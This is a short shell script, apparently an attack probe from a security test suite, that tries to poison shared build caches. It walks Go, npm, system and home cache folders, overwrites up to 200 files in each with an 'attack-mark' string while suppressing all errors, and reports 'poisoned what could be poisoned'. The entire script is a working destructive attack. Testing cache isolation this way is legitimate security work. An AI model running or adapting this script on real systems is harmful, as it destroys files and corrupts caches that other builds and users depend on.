. ./common.sh
for folder in "${GOCACHE:-}" "${GOPATH:-}" "${npm_config_cache:-}" /cache /var/cache "$HOME/.cache" "$HOME/go" /tmp/go-build /var/cache/codecollab; do
    [ -n "$folder" ] || continue
    mkdir -p "$folder/attack-mark" 2>/dev/null
    find "$folder" -type f 2>/dev/null | head -200 | while read -r file; do echo attack-mark 2>/dev/null >"$file"; done
done 2>/dev/null
done_with "poisoned what could be poisoned"
